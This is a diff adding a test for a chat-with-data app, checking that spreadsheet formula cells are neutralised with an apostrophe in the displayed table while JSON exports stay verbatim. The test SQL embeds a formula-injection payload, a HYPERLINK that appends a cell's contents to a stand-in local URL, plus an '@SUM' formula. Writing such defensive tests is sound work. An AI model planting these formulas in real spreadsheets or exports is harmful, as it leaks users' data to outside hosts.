@@ -61,3 +61,29 @@ def test_a_huge_table_result_is_kept_cut_and_the_turn_is_saved_answered(app_env,
     assert saved["status"] == "answered" and saved["answer"] == "There are 10,000 rows."
     assert len(json.dumps(saved)) < 3 * 1024 * 1024  # once, bounded, far under the 8 MB cap
     assert [c.value for c in at.caption if "rows are kept with this turn" in c.value]
+
+
+def test_formula_cells_reach_the_dataframe_as_text_and_the_exports_verbatim(app_env):
+    # st.dataframe's toolbar downloads the table as CSV (and a copied range pastes into a
+    # spreadsheet) verbatim, so cells a spreadsheet would run as formulas get an apostrophe;
+    # negative numbers, as numbers or text, are kept. The Markdown and JSON exports are the
+    # conversation's record, not spreadsheet files: they keep the cells as the query gave them.
+    sql = """SELECT '=HYPERLINK("http://127.0.0.1:9/?d="&A1)' AS "=link", -3.5 AS n, '-3.5' AS t, '@SUM(1)' AS a"""
+    app_env.script.extend(
+        [
+            {
+                "text": "Thought: I read the cells.",
+                "tool_calls": [{"id": "t1", "name": "query_table", "arguments": json.dumps({"sql": sql})}],
+            },
+            {"text": "Answer: The value is -3.5."},
+        ]
+    )
+    at = new_app()
+    at.chat_input[0].set_value("What is in the cells?").run()
+    assert not at.exception
+    frame = at.dataframe[0].value
+    assert list(frame.columns) == ["'=link", "n", "t", "a"]
+    row = frame.iloc[0].to_dict()
+    assert row == {"'=link": '\'=HYPERLINK("http://127.0.0.1:9/?d="&A1)', "n": -3.5, "t": "-3.5", "a": "'@SUM(1)"}
+    exported = json.loads(to_json(at.session_state["conversation"]))
+    assert exported["turns"][1]["tables"][0]["rows"][0][0] == '=HYPERLINK("http://127.0.0.1:9/?d="&A1)'
